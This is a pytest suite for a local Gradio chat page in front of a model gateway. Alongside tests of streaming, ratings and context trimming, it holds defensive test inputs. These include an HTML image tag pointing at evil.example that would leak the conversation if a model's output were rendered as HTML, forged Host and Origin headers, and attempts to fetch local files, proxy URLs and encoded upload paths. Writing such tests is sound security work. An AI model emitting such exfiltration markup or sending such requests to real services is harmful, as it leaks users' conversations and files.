"""The chat page: what it shows, and what its thumbs do. A fake engine answers."""

import re
from html import escape

import httpx
import pytest
from gradio_client import Client
from openai import OpenAI
from serving_tools import FOREIGN, WORDS, FakeEngine, addresses, gateway, running, status

from deploy.serving.guard import SERVER
from deploy.serving.page import answer, build_page, main, rate
from deploy.serving.store import answers

ASKED = [{"role": "user", "content": "What is the kettle for?"}]


@pytest.fixture
def fake():
    return FakeEngine()


@pytest.fixture
def bench(tmp_path, fake):
    with gateway(tmp_path, fake) as bench:
        yield bench


@pytest.fixture
def client(bench):
    return OpenAI(base_url=f"{bench.root}/v1", api_key="none", max_retries=0)


def test_an_answer_grows_and_its_thumb_is_kept(bench, client):
    said = list(answer(client, ASKED, "me"))
    assert [len(text) for text, _ in said] == sorted(len(text) for text, _ in said)
    text, name = said[-1]
    assert text == "".join(WORDS).strip()
    assert "may help to train" in rate(client, name, liked=False, consent=True)
    [row] = answers(bench.store)
    assert (row["id"], row["rating"], row["consent"]) == (name, -1, 1) and row["user"] not in (
        None,
        "me",
    )


def test_a_failure_is_said_in_the_place_of_the_answer(client, fake):
    fake.fault = "cut"
    text, name = list(answer(client, ASKED, "me"))[-1]
    assert text.startswith("Boil water") and "send the request once more" in text and name == ""
    assert "no answer" in rate(client, name, liked=True, consent=False)
    assert "Not kept" in rate(client, "chatcmpl-of-another", liked=True, consent=False)
    away = OpenAI(base_url="http://127.0.0.1:9/v1", api_key="none", max_retries=0)
    assert "Is it running?" in list(answer(away, ASKED, "me"))[-1][0]


def test_a_talk_that_became_too_long_loses_its_oldest_turns(bench, client, fake, monkeypatch):
    """Room for three messages of the five."""
    from deploy.serving.limits import Refusal

    async def prepare(engine, request):
        if len(request.messages) > 3:
            raise Refusal(400, "context_length_exceeded", "Too long.", "messages")
        return request, 10

    monkeypatch.setattr("deploy.serving.engine.Engine.prepare", prepare)
    talk = [
        {"role": role, "content": str(at)}
        for at, role in enumerate(["user", "assistant"] * 2 + ["user"])
    ]
    assert list(answer(client, talk, "me"))[-1][0] == "".join(WORDS).strip()
    assert [message["content"] for message in fake.bodies[-1]["messages"]] == ["2", "3", "4"]


def test_a_talk_that_became_too_large_for_the_gateway_loses_its_oldest_turns(bench, client):
    """64 kB: the last message fits, the talk before it does not."""
    talk = [{"role": role, "content": "x" * 40_000} for role in ("user", "assistant")]
    assert list(answer(client, talk + ASKED, "me"))[-1][0] == "".join(WORDS).strip()


@pytest.fixture
def page(bench):
    """The address of the real page, which has no key here."""
    with running(build_page(f"{bench.root}/v1", ""), timeout_graceful_shutdown=1) as address:
        yield address


def test_the_page_itself_chats(page):
    """Through Gradio's own client: the page is served on this machine, and its text box answers."""
    client = Client(page, verbose=False, analytics_enabled=False)
    _, talk = client.predict("What is it?", api_name="/say")
    assert talk[-1]["role"] == "assistant" and "Boil water with it." in str(talk[-1]["content"])


def test_what_is_said_is_shown_as_text_and_never_as_html(page, fake, monkeypatch):
    """Gradio writes what it gets into the page as HTML, images too: a model could make the browser
    send the talk anywhere. The model itself reads what was really said.
    """
    image = "<img src='http://evil.example/?talk'>"
    monkeypatch.setattr("serving_tools.WORDS", ["Look: ", image, " a & b"])
    client = Client(page, verbose=False, analytics_enabled=False)
    for _ in range(2):
        _, talk = client.predict(f"Is {image} it?", api_name="/say")
    asked, said = f"Is {image} it?", f"Look: {image} a & b"
    assert [turn["content"] for turn in fake.bodies[-1]["messages"]] == [asked, said, asked]
    shown = [turn["content"][0]["text"] for turn in talk]
    assert shown == [escape(text) for text in (asked, said, asked, said)]


def test_the_command_serves_this_machine_alone_with_the_gateway_s_settings(monkeypatch):
    seen = {}

    def run(server, sockets):
        seen.update(vars(server.config), host=sockets[0].getsockname()[0])
        sockets[0].close()

    monkeypatch.setattr("uvicorn.Server.run", run)
    monkeypatch.setattr("sys.argv", ["page", "--port", "0"])
    main()
    assert seen["host"] == "127.0.0.1"
    assert SERVER.items() <= seen.items()


def test_a_browser_gets_the_page_and_all_that_it_needs(page):
    """The page, its own scripts and styles, and what they ask for while one talks."""
    own = {"origin": page, "sec-fetch-site": "same-origin"}
    link = {"sec-fetch-site": "cross-site", "sec-fetch-dest": "document"}  # followed from elsewhere
    with httpx.Client(base_url=page, trust_env=False, timeout=20) as browser:
        front = browser.get("/", headers=link)
        assert front.status_code == 200
        needed = re.findall(r'(?:src|href)="\.?(/[^"]+\.(?:js|css|json))"', front.text)
        assert len(needed) > 2
        for path in [*needed, "/config", "/theme.css", "/gradio_api/info"]:
            assert browser.get(path, headers=own).status_code == 200, path
        assert not browser.get("/config", headers=own).json().get("analytics_enabled")
        asked = {"data": ["Hi", None], "fn_index": 0, "session_hash": "me"}
        joined = browser.post("/gradio_api/queue/join", json=asked, headers=own)
        assert joined.status_code == 200 and joined.json()["event_id"]
        said = browser.get("/gradio_api/queue/data", params={"session_hash": "me"}, headers=own)
        assert "Boil water with it." in said.text


def test_the_page_is_no_deputy_of_another_site(bench, page):
    """No address of Gradio's answers under another Host, or to a web page of another site."""
    every = addresses(build_page(f"{bench.root}/v1", ""))
    assert len(every) > 50 and ("POST", "/gradio_api/queue/join") in every
    for method, path in every:
        for headers in ({"host": "evil.example:7860"}, *FOREIGN.values()):
            assert status(page, method, path, headers) == 403, (method, path, headers)
    asked = {"data": ["Hi", None], "fn_index": 0, "session_hash": "evil"}
    rebound = {"host": "evil.example:7860", "origin": "http://evil.example:7860"}
    for headers in (rebound, *FOREIGN.values()):
        join = f"{page}/gradio_api/queue/join"
        assert httpx.post(join, json=asked, headers=headers, trust_env=False).status_code == 403
    assert answers(bench.store) == []


def test_the_page_takes_no_files_and_gives_none(page, tmp_path):
    """Every address that a talk does not need is closed, and a body has a limit."""
    (tmp_path / "mine.txt").write_text("secret")
    with httpx.Client(base_url=page, trust_env=False, timeout=20) as client:
        upload = client.post("/gradio_api/upload", files={"files": ("a.txt", b"x" * 1000)})
        assert upload.status_code == 404
        for path in (f"file={tmp_path}/mine.txt", "proxy=http://example.org", "deep_link"):
            assert client.get(f"/gradio_api/{path}").status_code == 404
        closed = ("/gradio_api//upload", "//gradio_api/upload", "/gradio_api/%75pload")
        assert {client.post(path, content=b"").status_code for path in closed} == {404}
        large = client.post("/gradio_api/queue/join", content=b"x" * 2_000_000)
        assert large.status_code == 413
